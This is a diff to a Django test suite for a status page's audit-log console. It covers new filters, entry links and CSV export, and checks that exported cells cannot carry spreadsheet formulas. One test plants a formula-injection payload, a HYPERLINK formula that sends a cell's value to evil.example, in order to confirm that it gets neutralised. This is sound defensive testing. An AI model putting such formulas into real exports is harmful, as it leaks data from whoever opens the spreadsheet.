@@ -1,9 +1,13 @@
+import csv
+import io
+import json
 from datetime import datetime, timedelta
 
 import pytest
 from django.contrib.auth import get_user_model
 
 from statuspage import actions
+from statuspage.console.audit_views import CSV_HEADER
 from statuspage.models import AuditEntry
 
 Via = AuditEntry.Via
@@ -33,6 +37,7 @@ def listed_actions(response) -> list[str]:
 def test_it_lists_every_entry_newest_first(staff_client, history):
     response = staff_client.get("/console/audit/")
     assert listed_actions(response) == [
+        "login.succeeded",  # the staff client's, today
         "component.set_status",
         "incident.identified",
         "incident.open",
@@ -45,8 +50,8 @@ def test_it_filters_by_actor(staff_client, history):
 
 
 def test_it_filters_by_via(staff_client, history):
-    response = staff_client.get("/console/audit/", {"via": "console"})
-    assert listed_actions(response) == ["incident.open"]
+    response = staff_client.get("/console/audit/", {"via": "api"})
+    assert listed_actions(response) == ["component.set_status", "incident.identified"]
 
 
 def test_it_filters_by_object_type(staff_client, history):
@@ -69,14 +74,15 @@ def test_it_filters_by_local_date_range(staff_client, history):
     day1 = DAY1.date().isoformat()
     response = staff_client.get("/console/audit/", {"since": day1, "until": day1})
     assert listed_actions(response) == ["incident.open"]
-    response = staff_client.get("/console/audit/", {"since": DAY2.date().isoformat()})
+    day2 = DAY2.date().isoformat()
+    response = staff_client.get("/console/audit/", {"since": day2, "until": day2})
     assert listed_actions(response) == ["component.set_status", "incident.identified"]
 
 
 def test_it_ignores_an_invalid_filter_and_says_so(staff_client, history):
     response = staff_client.get("/console/audit/", {"since": "yesterday"})
     assert "Enter a valid date." in response.content.decode()
-    assert len(listed_actions(response)) == 3
+    assert len(listed_actions(response)) == 4  # three changes and the staff client's sign-in
 
 
 def test_it_shows_before_and_after(staff_client, history):
@@ -133,8 +139,89 @@ def test_it_paginates_and_keeps_the_filters(staff_client, staff, make_component)
     for _ in range(26):
         actions.set_component_status(component, "major_outage", actor=staff, via=Via.CONSOLE)
         actions.set_component_status(component, "operational", actor=staff, via=Via.CONSOLE)
-    response = staff_client.get("/console/audit/", {"via": "console"})
+    response = staff_client.get("/console/audit/", {"object_type": "component"})
     assert len(response.context["rows"]) == 50
-    assert 'href="?via=console&amp;page=2"' in response.content.decode()
-    response = staff_client.get("/console/audit/", {"via": "console", "page": "2"})
+    assert 'href="?object_type=component&amp;page=2"' in response.content.decode()
+    response = staff_client.get("/console/audit/", {"object_type": "component", "page": "2"})
     assert len(response.context["rows"]) == 2
+
+
+def test_it_filters_by_object_name_or_id(staff_client, history):
+    response = staff_client.get("/console/audit/", {"object": "bureau"})
+    assert listed_actions(response) == [
+        "component.set_status",
+        "incident.identified",
+        "incident.open",
+    ]
+    response = staff_client.get(
+        "/console/audit/", {"object_type": "incident", "object": f"#{history.pk}"}
+    )
+    assert listed_actions(response) == ["incident.identified", "incident.open"]
+
+
+def test_each_entry_links_to_its_objects_history(staff_client, history):
+    content = staff_client.get("/console/audit/", {"action": "incident.open"}).content.decode()
+    assert f'href="?object_type=incident&amp;object=%23{history.pk}"' in content
+
+
+def csv_rows(response) -> list[list[str]]:
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_it_exports_the_filtered_entries_as_csv(staff_client, history):
+    response = staff_client.get("/console/audit/export.csv", {"actor": "carol"})
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
+    header, *rows = csv_rows(response)
+    assert header == CSV_HEADER
+    assert [row[3] for row in rows] == ["component.set_status", "incident.identified"]
+    status_change = rows[0]
+    assert status_change[0] == "2026-11-21T12:00:00+08:00"  # in the site's time zone
+    assert status_change[1:3] == ["carol", "api"]
+    assert json.loads(status_change[7])["manual_status"] == "operational"
+    assert json.loads(status_change[8])["manual_status"] == "major_outage"
+
+
+def test_the_csv_cannot_smuggle_a_formula_into_a_spreadsheet(staff_client, staff):
+    incident = actions.open_incident(
+        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        body="x",
+        actor=staff,
+        via=Via.CONSOLE,
+    )
+    get_user_model().objects.create_user("@mallory", is_staff=True)
+    evil = get_user_model().objects.get(username="@mallory")
+    actions.post_incident_update(
+        incident, status="identified", body="-2+3", actor=evil, via=Via.API
+    )
+
+    rows = csv_rows(staff_client.get("/console/audit/export.csv", {"object_type": "incident"}))
+
+    cells = [cell for row in rows[1:] for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
+    assert "'@mallory" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_an_invalid_filter_exports_nothing_and_says_why(staff_client, history):
+    response = staff_client.get("/console/audit/export.csv", {"since": "yesterday"})
+    assert response.status_code == 400
+    assert "since: Enter a valid date." in response.content.decode()
+
+
+def test_the_page_links_to_the_export_with_its_filters(staff_client, history):
+    content = staff_client.get("/console/audit/", {"actor": "carol"}).content.decode()
+    assert 'href="/console/audit/export.csv?actor=carol"' in content
+
+
+def test_spreadsheet_cells_keep_numbers_and_quote_formulas():
+    from statuspage.text import spreadsheet_cell
+
+    assert spreadsheet_cell(-3) == -3
+    assert spreadsheet_cell("-3") == "'-3"
+    assert spreadsheet_cell("+1 555") == "'+1 555"
+    assert spreadsheet_cell("\t=1") == "'\t=1"
+    assert spreadsheet_cell("Credit bureau") == "Credit bureau"
